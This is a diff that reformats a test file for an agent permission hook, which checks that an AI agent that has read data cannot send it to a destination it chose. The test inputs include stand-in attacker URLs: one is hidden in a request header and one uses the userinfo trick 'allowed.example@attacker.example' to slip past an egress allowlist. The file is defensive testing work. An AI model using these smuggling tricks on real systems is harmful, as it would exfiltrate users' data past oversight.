@@ -43,9 +43,15 @@ describe('BR-23: read, then send to a URL the agent chose', () => {
     expect(allowed.json).toEqual({});
     const sub = await hook(world, pre('S1', 'mcp__fetch__fetch', { url: 'https://docs.allowed.example/x' }), ['--egress-allow', 'allowed.example']);
     expect(sub.json).toEqual({});
-    const smuggled = await hook(world, pre('S1', 'mcp__fetch__fetch', { url: 'https://allowed.example/docs', headers: { x: 'https://attacker.example/' } }), ['--egress-allow', 'allowed.example']);
+    const smuggled = await hook(world, pre('S1', 'mcp__fetch__fetch', { url: 'https://allowed.example/docs', headers: { x: 'https://attacker.example/' } }), [
+      '--egress-allow',
+      'allowed.example',
+    ]);
     expect(smuggled.decision).toBe('ask');
-    const userinfo = await hook(world, pre('S1', 'mcp__fetch__fetch', { url: 'https://allowed.example@attacker.example/' }), ['--egress-allow', 'allowed.example']);
+    const userinfo = await hook(world, pre('S1', 'mcp__fetch__fetch', { url: 'https://allowed.example@attacker.example/' }), [
+      '--egress-allow',
+      'allowed.example',
+    ]);
     expect(userinfo.decision).toBe('ask');
   });
 
@@ -92,7 +98,11 @@ describe('BR-23: read, then send to a URL the agent chose', () => {
       expect(result.reason, tool).toMatch(new RegExp(`^rclass: R4 Irreversible \\(session\\) for ${tool}`));
       expect(result.reason, tool).toContain('the destination is not named in the arguments, so no allowlist can cover it');
     }
-    expect(logLines(world.log).filter((line) => line.session === 'W6').map((line) => [line.tool, line.class, line.decision])).toEqual([
+    expect(
+      logLines(world.log)
+        .filter((line) => line.session === 'W6')
+        .map((line) => [line.tool, line.class, line.decision]),
+    ).toEqual([
       ['WebSearch', 'R4', 'ask'],
       ['Artifact', 'R4', 'ask'],
       ['SendUserFile', 'R4', 'ask'],
@@ -134,7 +144,10 @@ describe('session state (SPEC 9.3)', () => {
   it('assumes a read when the state disappeared and only the transcript shows earlier tool results (no log)', async () => {
     const world = makeWorld();
     const transcript = path.join(world.root, 'transcript.jsonl');
-    writeFileSync(transcript, `${JSON.stringify({ type: 'user', message: { content: [{ type: 'tool_result', tool_use_id: 'toolu_1', content: 'secret' }] } })}\n`);
+    writeFileSync(
+      transcript,
+      `${JSON.stringify({ type: 'user', message: { content: [{ type: 'tool_result', tool_use_id: 'toolu_1', content: 'secret' }] } })}\n`,
+    );
     const fetch = await hook(world, { ...fetchAttacker('L2'), transcript_path: transcript }, ['--no-log']);
     expect(fetch.decision).toBe('ask');
     // A fresh transcript (no tool results yet) is a new session.
